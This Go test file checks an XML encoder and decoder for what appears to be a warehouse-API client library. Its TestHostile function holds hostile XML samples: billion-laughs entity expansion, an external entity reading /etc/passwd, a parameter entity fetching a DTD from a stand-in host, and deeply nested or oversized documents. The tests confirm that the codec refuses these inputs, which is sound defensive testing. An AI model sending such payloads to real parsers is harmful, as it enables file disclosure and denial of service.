package xmlwire_test

import (
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"reflect"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/shopspring/decimal"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/dianjia/jushuitan-go/internal/racetest"
	"github.com/dianjia/jushuitan-go/internal/wire"
	"github.com/dianjia/jushuitan-go/internal/xmlwire"
)

type code string

type line struct {
	No       string          `json:"orderLineNo,omitzero" xml:"orderLineNo"`
	PlanQty  decimal.Decimal `json:"planQty" xml:"planQty"`
	Batchs   []batch         `json:"batchs,omitzero" xml:"batchs>batch"`
	SNs      []string        `json:"snList,omitzero" xml:"snList>sn"`
	Priority int64           `json:"priority,omitzero" xml:"priority"`
}

type batch struct {
	Code    string    `json:"batchCode,omitzero" xml:"batchCode"`
	Expires time.Time `json:"expireDate,omitzero" xml:"expireDate"`
}

type head struct {
	Code   string                     `json:"deliveryOrderCode" xml:"deliveryOrderCode"`
	Type   code                       `json:"orderType,omitzero" xml:"orderType"`
	Time   time.Time                  `json:"createTime,omitzero" xml:"createTime"`
	Urgent bool                       `json:"isUrgency,omitzero" xml:"isUrgency"`
	Lines  []line                     `json:"items,omitzero" xml:"items>item"`
	Extra  map[string]json.RawMessage `json:",embed"`
}

type request struct {
	Order *head                      `json:"deliveryOrder,omitzero" xml:"deliveryOrder"`
	Lines []line                     `json:"orderLines,omitzero" xml:"orderLines>orderLine"`
	Props map[string]string          `json:"extendProps,omitzero" xml:"extendProps"`
	Raw   json.RawMessage            `json:"raw,omitzero" xml:"raw"`
	Extra map[string]json.RawMessage `json:",embed"`
}

func dec(s string) decimal.Decimal { return decimal.RequireFromString(s) }

func at(y int, m time.Month, d, h, mi, s int) time.Time {
	return time.Date(y, m, d, h, mi, s, 0, wire.CST)
}

func sample() *request {
	return &request{
		Order: &head{
			Code: "出库单-1 <&>", Type: "JYCK", Time: at(2024, 1, 2, 3, 4, 5), Urgent: true,
			Lines: []line{{PlanQty: dec("0")}},
			Extra: map[string]json.RawMessage{"newField": []byte(`"x"`)},
		},
		Lines: []line{
			{No: "1", PlanQty: dec("2.50"), Batchs: []batch{{Code: "B1", Expires: at(2025, 12, 31, 0, 0, 0)}, {Code: "B2"}}, SNs: []string{"s1", "s2"}, Priority: 3},
			{No: "2", PlanQty: dec("-1")},
		},
		Props: map[string]string{"key1": "值1", "key2": ""},
		Raw:   []byte(`{"a":[{"b":"1"},{"b":"2"}],"c":"x"}`),
		Extra: map[string]json.RawMessage{"list": []byte(`["1","2"]`), "one": []byte(`{"k":"v"}`)},
	}
}

func TestMarshal(t *testing.T) {
	var c xmlwire.Codec
	got, err := c.Marshal("request", sample())
	require.NoError(t, err)
	assert.Equal(t, `<?xml version="1.0" encoding="utf-8"?><request>`+
		`<deliveryOrder><deliveryOrderCode>出库单-1 &lt;&amp;&gt;</deliveryOrderCode><orderType>JYCK</orderType>`+
		`<createTime>2024-01-02 03:04:05</createTime><isUrgency>true</isUrgency>`+
		`<items><item><planQty>0</planQty></item></items><newField>x</newField></deliveryOrder>`+
		`<orderLines><orderLine><orderLineNo>1</orderLineNo><planQty>2.5</planQty>`+
		`<batchs><batch><batchCode>B1</batchCode><expireDate>2025-12-31 00:00:00</expireDate></batch><batch><batchCode>B2</batchCode></batch></batchs>`+
		`<snList><sn>s1</sn><sn>s2</sn></snList><priority>3</priority></orderLine>`+
		`<orderLine><orderLineNo>2</orderLineNo><planQty>-1</planQty></orderLine></orderLines>`+
		`<extendProps><key1>值1</key1><key2></key2></extendProps>`+
		`<raw><a><b>1</b></a><a><b>2</b></a><c>x</c></raw>`+
		`<list>1</list><list>2</list><one><k>v</k></one></request>`, string(got))

	var back request
	root, err := c.Unmarshal(got, &back)
	require.NoError(t, err)
	assert.Equal(t, "request", root)
	want := sample()
	want.Lines[0].PlanQty = dec("2.5") // the scale of a number is not kept
	assert.Equal(t, fmt.Sprintf("%+v", want.Order), fmt.Sprintf("%+v", back.Order))
	want.Order, back.Order = nil, nil
	assert.Equal(t, fmt.Sprintf("%+v", want), fmt.Sprintf("%+v", &back))
}

func TestMarshalForms(t *testing.T) {
	var c xmlwire.Codec
	tests := map[string]struct {
		v    any
		want string
	}{
		"nil pointer":       {(*request)(nil), ""},
		"nil":               {nil, ""},
		"zero of omitzero":  {&request{}, ""},
		"required are sent": {line{}, "<planQty>0</planQty>"},
		"a map":             {map[string]any{"b": 1, "a": map[string]any{"x": true, "n": nil}, "l": []string{"p", "q"}}, "<a><n></n><x>true</x></a><b>1</b><l>p</l><l>q</l>"},
		"JSON":              {json.RawMessage(`{"b":1.50,"a":{"#text":"t","x":"<"}}`), "<a>t<x>&lt;</x></a><b>1.50</b>"},
		"control characters": {
			map[string]string{"a": "x\x00\x08y\tz\nw\r\ufffe."}, "<a>xy\tz\nw&#xD;.</a>",
		},
		"not UTF-8": {struct {
			A string `xml:"a"`
		}{"x\xffy"}, "<a>x\uFFFDy</a>"},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			got, err := c.Marshal("r", tt.v)
			require.NoError(t, err)
			assert.Equal(t, xmlwire.Header+"<r>"+tt.want+"</r>", string(got))
		})
	}
	for name, v := range map[string]any{
		"bad name":   map[string]string{"a b": "x"},
		"injection":  request{Props: map[string]string{"a><b": "x"}},
		"no JSON":    request{Raw: []byte(`{"a"`)},
		"bad member": request{Raw: []byte(`{"1":"x"}`)},
		"number":     3.5,
		"deep JSON":  json.RawMessage(strings.Repeat(`{"a":`, 40) + "1" + strings.Repeat("}", 40)),
	} {
		t.Run(name, func(t *testing.T) {
			_, err := c.Marshal("r", v)
			assert.Error(t, err)
		})
	}
}

func TestUnmarshalTolerance(t *testing.T) {
	var c xmlwire.Codec
	tests := map[string]struct{ body, want string }{
		"blanks and empties": {
			`<orderLines> <orderLine> <planQty> 1.50 </planQty><priority/></orderLine> </orderLines><deliveryOrder/>`,
			`{"deliveryOrder":{"deliveryOrderCode":""},"orderLines":[{"planQty":"1.5"}]}`,
		},
		"integer as decimal":   {`<orderLines><orderLine><priority>12.0</priority></orderLine></orderLines>`, `{"orderLines":[{"planQty":"0","priority":12}]}`},
		"flag as number":       {`<deliveryOrder><isUrgency>1</isUrgency></deliveryOrder>`, `{"deliveryOrder":{"deliveryOrderCode":"","isUrgency":true}}`},
		"date alone":           {`<deliveryOrder><createTime>2024-01-02</createTime></deliveryOrder>`, `{"deliveryOrder":{"deliveryOrderCode":"","createTime":"2024-01-02T00:00:00+08:00"}}`},
		"CDATA and comments":   {`<deliveryOrder><deliveryOrderCode><!-- c -->a<![CDATA[<&]]>b</deliveryOrderCode></deliveryOrder>`, `{"deliveryOrder":{"deliveryOrderCode":"a\u003c\u0026b"}}`},
		"entries by any name":  {`<orderLines><line><planQty>1</planQty></line><line><planQty>2</planQty></line></orderLines>`, `{"orderLines":[{"planQty":"1"},{"planQty":"2"}]}`},
		"map as JSON":          {`<extendProps>{"a":"1","b":2}</extendProps>`, `{"extendProps":{"a":"1","b":"2"}}`},
		"unknown members":      {`<x>1</x><y><z>2</z></y><x>3</x><e/>`, `{"e":"","x":["1","3"],"y":{"z":"2"}}`},
		"unknown, mixed":       {`<x>a<b>1</b>c</x>`, `{"x":{"#text":"ac","b":"1"}}`},
		"namespaces":           {`<q:raw xmlns:q="urn:q" k="v"><q:a>1</q:a></q:raw>`, `{"raw":{"a":"1"}}`},
		"fields in any order":  {`<raw>r</raw><deliveryOrder><orderType>JYCK</orderType><deliveryOrderCode>c</deliveryOrderCode></deliveryOrder>`, `{"deliveryOrder":{"deliveryOrderCode":"c","orderType":"JYCK"},"raw":"r"}`},
		"parent comes twice":   {`<orderLines><orderLine/></orderLines><orderLines><orderLine/></orderLines>`, `{"orderLines":[{"planQty":"0"},{"planQty":"0"}]}`},
		"character references": {`<raw>&#20986;&lt;&#x5e93;</raw>`, `{"raw":"出\u003c库"}`},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			var got request
			_, err := c.Unmarshal([]byte("\xef\xbb\xbf<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<request>"+tt.body+"</request>\n"), &got)
			require.NoError(t, err)
			text, err := marshalPlain(got)
			require.NoError(t, err)
			assert.JSONEq(t, tt.want, text)
		})
	}
}

// marshalPlain shows a value with its unknown members inline.
func marshalPlain(v request) (string, error) {
	extra := v.Extra
	v.Extra = nil
	b, err := wire.MarshalExact(v)
	if err != nil {
		return "", err
	}
	var m map[string]any
	if err := json.Unmarshal(b, &m); err != nil {
		return "", err
	}
	for k, raw := range extra {
		m[k] = raw
	}
	out, err := json.Marshal(m)
	s := strings.NewReplacer(`"planQty":0`, `"planQty":"0"`, `"planQty":1.5`, `"planQty":"1.5"`, `"planQty":1`, `"planQty":"1"`, `"planQty":2`, `"planQty":"2"`,
		`"2024-01-02 00:00:00"`, `"2024-01-02T00:00:00+08:00"`).Replace(string(out))
	return s, err
}

func TestUnmarshalErrors(t *testing.T) {
	var c xmlwire.Codec
	tests := map[string]struct{ body, want string }{
		"number":             {`<r><orderLines><orderLine/><orderLine><planQty>12a</planQty></orderLine></orderLines></r>`, "orderLines.orderLine[1].planQty: want number, got text of 3 characters"},
		"integer":            {`<r><orderLines><orderLine><priority>1.5</priority></orderLine></orderLines></r>`, "orderLines.orderLine[0].priority: want integer, got text of 3 characters"},
		"time":               {`<r><deliveryOrder><createTime>昨天</createTime></deliveryOrder></r>`, "deliveryOrder.createTime: want time, got text of 2 characters"},
		"flag":               {`<r><deliveryOrder><isUrgency>maybe</isUrgency></deliveryOrder></r>`, "deliveryOrder.isUrgency: want true or false, got text of 5 characters"},
		"object for text":    {`<r><deliveryOrder><orderType><x/></orderType></deliveryOrder></r>`, "deliveryOrder.orderType: want text, got object"},
		"text for object":    {`<r><deliveryOrder>secret</deliveryOrder></r>`, "deliveryOrder: want object, got text of 6 characters"},
		"text for list":      {`<r><orderLines>secret</orderLines></r>`, "orderLines: want object, got text of 6 characters"},
		"text for root":      {`<r>secret</r>`, "(root): want object, got text of 6 characters"},
		"huge exponent":      {`<r><orderLines><orderLine><planQty>1e999999999</planQty></orderLine></orderLines></r>`, "orderLines.orderLine[0].planQty: want number, got text of 11 characters"},
		"empty":              {``, "XML cut off at byte 0"},
		"cut off":            {`<r><deliveryOrder>`, "XML cut off at byte 18"},
		"cut off in tag":     {`<r><deliv`, "XML cut off at byte 9"},
		"cut off after root": {`<r/><!-- `, "XML cut off at byte 9"},
		"no XML":             {`{"a":1}`, "text before the root element at byte 7"},
		"crossed":            {`<r><a></r></a>`, "an element is closed that is not the last one opened at byte 10"},
		"closed too often":   {`<r/></r>`, "an element is closed that is not the last one opened at byte 8"},
		"two roots":          {`<r/><r/>`, "a second root element at byte 8"},
		"text after root":    {`<r/>x`, "text after the root element at byte 5"},
		"bad tag":            {`<r><1/></r>`, "not well-formed XML at byte 5"},
		"processing":         {`<?xml-stylesheet href="x"?><r/>`, "a processing instruction is not accepted at byte 27"},
		"late declaration":   {`<r><?xml version="1.0"?></r>`, "a processing instruction is not accepted at byte 24"},
		"Big5 declared":      {`<?xml version="1.0" encoding="Big5"?><r/>`, "a charset other than UTF-8 is declared at byte 37"},
		"invalid UTF-8":      {"<r><raw>\xb3\xf6</raw></r>", "text that is not UTF-8 at byte 10"},
		"control character":  {"<r><raw>\x01</raw></r>", "a character that XML does not allow at byte 9"},
		"unknown entity":     {"<r><raw>&nbsp;</raw></r>", "an entity that XML does not have at byte 14"},
		"reference to NUL":   {"<r><raw>&#0;</raw></r>", "a character that XML does not allow at byte 12"},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			var got request
			_, err := c.Unmarshal([]byte(tt.body), &got)
			require.Error(t, err)
			assert.Equal(t, tt.want, err.Error())
			if strings.Contains(tt.want, "cut off") {
				assert.ErrorIs(t, err, io.ErrUnexpectedEOF)
			}
		})
	}
	var n int64
	root, err := c.Unmarshal([]byte(`<n> 7 </n>`), &n)
	require.NoError(t, err)
	assert.Equal(t, "n", root)
	assert.EqualValues(t, 7, n)
	root, err = c.Unmarshal([]byte(`<error_response><code>7</code></error_response>`))
	require.NoError(t, err)
	assert.Equal(t, "error_response", root)

	for name, v := range map[string]any{"no pointer": request{}, "nil": (*request)(nil), "float": new(float64), "lists in lists": new(struct{ A [][]string })} {
		t.Run(name, func(t *testing.T) {
			_, err := c.Unmarshal([]byte(`<r/>`), v)
			assert.ErrorContains(t, err, "xmlwire: ")
		})
	}
}

// TestUnmarshalInto: an answer's head and its body are decoded in one pass.
func TestUnmarshalInto(t *testing.T) {
	var c xmlwire.Codec
	var envelope struct {
		Flag string `xml:"flag"`
		Code string `xml:"code"`
	}
	envelope.Flag = "old"
	body := head{Code: "old", Extra: map[string]json.RawMessage{"old": nil}}
	root, err := c.Unmarshal([]byte(`<response><code>0</code><deliveryOrderCode>d1</deliveryOrderCode><flag>success</flag><more>1</more></response>`), &envelope, &body)
	require.NoError(t, err)
	assert.Equal(t, "response", root)
	assert.Equal(t, "success", envelope.Flag)
	assert.Equal(t, "0", envelope.Code)
	assert.Equal(t, head{Code: "d1", Extra: map[string]json.RawMessage{"more": []byte(`"1"`)}}, body)
}

// Hostile documents are cheap to refuse, whatever they try.
func TestHostile(t *testing.T) {
	laughs := `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">`
	for i := range 9 {
		laughs += fmt.Sprintf(`<!ENTITY lol%d "%s">`, i+1, strings.Repeat(fmt.Sprintf("&lol%d;", i), 10))
	}
	laughs += `]><request><raw>&lol9;</raw></request>`
	tests := map[string]struct{ body, want string }{
		"billion laughs":      {laughs, "a document type or other directive is not accepted"},
		"external entity":     {`<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><request><raw>&x;</raw></request>`, "a document type or other directive"},
		"parameter entity":    {`<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.invalid/x.dtd">%x;]><request/>`, "a document type or other directive"},
		"doctype inside":      {`<request><!DOCTYPE r><raw/></request>`, "a document type or other directive"},
		"10,000 levels":       {strings.Repeat("<a>", 10_000) + strings.Repeat("</a>", 10_000), "elements nested deeper than 32"},
		"unclosed levels":     {strings.Repeat("<a>", 2_000_000), "elements nested deeper than 32"},
		"10,000 known levels": {"<request><raw>" + strings.Repeat("<raw>", 10_000), "elements nested deeper than 32"},
		"empty lines":         {"<request><orderLines>" + strings.Repeat("<orderLine/>", 1_000_000) + "</orderLines></request>", "more than 50000 list entries"},
		"unknown elements":    {"<request>" + strings.Repeat("<x/>", 1_000_000) + "</request>", "more than 50000 list entries"},
		"too many tokens":     {"<request><deliveryOrder>" + strings.Repeat("<isUrgency/>", 1_000_001) + "</deliveryOrder></request>", "more than 2000000 elements"},
		"too long":            {"<request><raw>" + strings.Repeat("x", 33<<20) + "</raw></request>", "longer than 33554432 bytes"},
		"many attributes":     {"<request " + strings.Repeat(`a="1" `, 300_000) + "><!DOCTYPE x></request>", "a document type or other directive"},
		"deep doctype":        {"<!DOCTYPE " + strings.Repeat("<", 1_000_000), "XML cut off"},
		"invalid UTF-8":       {"<request><raw>" + strings.Repeat("\xff", 1000) + "</raw></request>", "not UTF-8"},
		"Big5 declared":       {`<?xml version="1.0" encoding="big5"?><request/>`, "a charset other than UTF-8"},
		"open comment":        {"<request><!--" + strings.Repeat("-", 1_000_000), "not well-formed"},
	}
	for name, tt := range tests {
		if racetest.Enabled && name == "too many tokens" {
			continue // takes ten seconds
		}
		t.Run(name, func(t *testing.T) {
			var c xmlwire.Codec
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			begin := time.Now()
			var got request
			_, err := c.Unmarshal([]byte(tt.body), &got)
			took := time.Since(begin)
			runtime.ReadMemStats(&after)
			require.ErrorContains(t, err, tt.want)
			assert.Less(t, len(err.Error()), 200, "an error shows nothing of the document")
			allocated := after.TotalAlloc - before.TotalAlloc
			t.Logf("%d bytes: %v, %d KiB allocated", len(tt.body), took.Round(10*time.Microsecond), allocated>>10)
			assert.Less(t, allocated, uint64(300<<20))
		})
	}
}

// plain is a type that encoding/xml can decode as well.
type plain struct {
	A     string   `xml:"a"`
	N     int64    `xml:"n"`
	B     bool     `xml:"b"`
	Items []nested `xml:"items>item"`
	Tags  []string `xml:"tags>tag"`
	In    *nested  `xml:"in"`
	Again []nested `xml:"again"`
}

type nested struct {
	Code string `xml:"code"`
	N    int64  `xml:"n"`
	Deep *struct {
		X string `xml:"x"`
	} `xml:"deep"`
}

// FuzzUnmarshal: encoding/xml decodes whatever this package decodes, to the same values;
// what is encoded again decodes to the same; and errors do not quote the document.
func FuzzUnmarshal(f *testing.F) {
	f.Add([]byte(`<r><a>x</a><n> 5 </n><b>true</b><items><item><code>c</code><deep><x>1</x></deep></item></items><tags><tag>t</tag></tags><in/></r>`))
	f.Add([]byte(`<r><again><n>1</n></again><again/><a><![CDATA[x]]>&amp;</a></r>`))
	f.Add([]byte(`<r xmlns:x="u"><x:a b="1">y</x:a><!-- c --></r>`))
	f.Add([]byte("<r>\xff</r>"))
	f.Add([]byte(`<!DOCTYPE r><r/>`))
	f.Fuzz(func(t *testing.T, data []byte) {
		c := &xmlwire.Codec{}
		equalReadings(t, c, data)
		var free request
		if _, err := c.Unmarshal(data, &free); err == nil {
			text, err := c.Marshal("request", &free)
			if err == nil { // names of elements that XML accepts and this package does not
				var again request
				_, err = c.Unmarshal(text, &again)
				require.NoError(t, err, "%s", text)
				back, err := c.Marshal("request", &again)
				require.NoError(t, err)
				require.Equal(t, string(text), string(back))
			}
		}
		var got, want plain
		_, err := c.Unmarshal(data, &got)
		if err != nil {
			return
		}
		if err := xml.Unmarshal(data, &want); err != nil || !bytesPlain(data) {
			return // encoding/xml is stricter with numbers, this package with what surrounds the root
		}
		require.Equal(t, want, got)
	})
}

// bytesPlain reports whether a document has none of the features that the two decode
// differently on purpose: entries of lists under other names, prefixes of names, a single
// value twice, of which this package takes the first and encoding/xml the last, and text where
// elements are expected, which encoding/xml drops.
func bytesPlain(data []byte) bool {
	d := xml.NewDecoder(strings.NewReader(string(data)))
	known := " r a n b items item tags tag in again code deep x "
	const single, values = " a n b in code deep x ", " a n b tag code x "
	var open []string
	seen := []map[string]bool{{}} // the names in each open element
	for {
		tok, err := d.RawToken()
		if err != nil {
			return errors.Is(err, io.EOF)
		}
		switch tok := tok.(type) {
		case xml.StartElement:
			if tok.Name.Space != "" || len(tok.Attr) > 0 || !strings.Contains(known, " "+tok.Name.Local+" ") {
				return false
			}
			if n := len(open); n > 0 && (open[n-1] == "items" && tok.Name.Local != "item" || open[n-1] == "tags" && tok.Name.Local != "tag") {
				return false
			}
			within := seen[len(seen)-1]
			if within[tok.Name.Local] && strings.Contains(single, " "+tok.Name.Local+" ") {
				return false
			}
			within[tok.Name.Local] = true
			open, seen = append(open, tok.Name.Local), append(seen, map[string]bool{})
		case xml.CharData:
			if n := len(open); n > 0 && !strings.Contains(values, " "+open[n-1]+" ") && strings.Trim(string(tok), " \t\r\n") != "" {
				return false
			}
		case xml.EndElement:
			open, seen = open[:max(0, len(open)-1)], seen[:max(1, len(seen)-1)]
		}
	}
}

// FuzzMarshal: any text of a field is decoded unchanged, except for what XML cannot
// represent.
func FuzzMarshal(f *testing.F) {
	f.Add("出库单 <&>'\"]]>", "1.20", "k")
	f.Add("\x00\ufffe\xff\r\n\t", "-0", "a.b-c_1")
	f.Fuzz(func(t *testing.T, text, number, name string) {
		c := &xmlwire.Codec{}
		in := request{Order: &head{Code: text}, Props: map[string]string{name: text}}
		if d, err := wire.ParseDecimal([]byte(number)); err == nil {
			in.Lines = []line{{PlanQty: d}}
		}
		out, err := c.Marshal("request", &in)
		if err != nil {
			return // the name
		}
		var back request
		_, err = c.Unmarshal(out, &back)
		require.NoError(t, err, "%s", out)
		want := strings.Map(func(r rune) rune {
			if r < ' ' && r != '\t' && r != '\n' && r != '\r' || r == 0xfffe || r == 0xffff {
				return -1
			}
			return r
		}, strings.ToValidUTF8(perByte(text), "\uFFFD"))
		require.Equal(t, want, back.Order.Code)
		require.Equal(t, map[string]string{name: want}, back.Props)
		require.True(t, len(in.Lines) == 0 || in.Lines[0].PlanQty.Equal(back.Lines[0].PlanQty))
	})
}

// perByte replaces each byte that is not UTF-8 with one character.
func perByte(s string) string { return string([]rune(s)) }

func TestCodecIsForManyGoroutines(t *testing.T) {
	var c xmlwire.Codec
	text, err := c.Marshal("request", sample())
	require.NoError(t, err)
	done := make(chan *request)
	for range 8 {
		go func() {
			var r request
			if _, err := c.Unmarshal(text, &r); err != nil {
				r = request{}
			}
			done <- &r
		}()
	}
	first := <-done
	for range 7 {
		assert.True(t, reflect.DeepEqual(first, <-done))
	}
	assert.Len(t, first.Lines, 2)
}
